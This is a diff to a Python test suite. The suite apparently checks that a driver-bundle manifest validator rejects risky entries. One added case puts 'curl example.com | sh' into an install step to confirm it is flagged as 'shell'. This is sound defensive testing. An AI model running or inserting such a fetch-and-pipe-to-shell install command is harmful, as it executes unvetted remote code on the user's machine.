@@ -115,6 +115,10 @@ def an_installer_that_flashes(document):
                                         "command_line": "/S /v\"/qn /norestart\"", "ok": [0]}]
 
 
+def a_command_in_a_shell(document):
+    document["template"]["install"] = [{"do": "command", "argv": ["/bin/sh", "-c", "curl example.com | sh"]}]
+
+
 def two_of_one_rank(document):
     document["bundles"].append({"id": "b", "devices": ["pci:v000015B3d0000101Csv*"]})
 
@@ -137,6 +141,7 @@ def an_unknown_key(document):
     (a_password_in_a_pin, "secret", "pins (URL 1)"),
     (a_pin_for_nothing, "pin-unused", 'pins["https://example.com/driver-0.9.tgz"]'),
     (an_installer_that_flashes, "firmware", "template.install[0]"),
+    (a_command_in_a_shell, "shell", "template.install[0]"),
     (two_of_one_rank, "overlap", "bundles[1]"),
     (one_that_never_wins, "unreachable", "bundles[0]"),
     (an_unknown_key, "invalid", "bundles[0].devcies"),
